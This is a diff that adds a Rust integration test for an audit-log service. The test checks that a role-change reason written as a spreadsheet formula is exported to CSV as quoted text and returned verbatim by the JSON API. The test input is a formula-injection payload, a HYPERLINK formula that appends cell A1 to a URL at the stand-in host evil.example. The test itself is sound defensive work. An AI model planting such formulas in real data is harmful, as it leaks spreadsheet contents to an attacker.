@@ -87,3 +87,32 @@ async fn two_entries_swapped_in_place_are_detected_at_the_first_of_them() {
     let v: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
     assert_eq!(v["problem"]["seq"], 2, "{v}");
 }
+
+#[tokio::test]
+async fn a_reason_written_as_a_formula_stays_text_when_the_audit_csv_is_opened_in_a_spreadsheet() {
+    let app = spawn_app().await;
+    let (admin, other) = (app.user(Role::Admin), app.user(Role::Coordinator));
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+    let resp = app
+        .send_as(
+            &admin,
+            Method::PATCH,
+            &format!("/api/v1/users/{}", other.id),
+            json!({"role": "moderator", "reason": formula}),
+        )
+        .await;
+    assert_eq!(resp.status(), StatusCode::OK);
+    let csv = app.get_as(&admin, "/api/v1/audit/export").await.text().await.expect("csv");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let reason_at =
+        reader.headers().expect("header").iter().position(|h| h == "reason").expect("reason column");
+    let reasons: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("row")[reason_at].to_owned())
+        .filter(|r| r.contains("HYPERLINK"))
+        .collect();
+    assert_eq!(reasons, vec![format!("'{formula}")], "the cell starts with a quote, so it is text");
+    // The JSON API keeps the reason exactly as written.
+    let audit: Value = app.get_as(&admin, "/api/v1/audit?entity=user").await.json().await.expect("audit");
+    assert!(audit.as_array().expect("entries").iter().any(|e| e["reason"] == formula));
+}
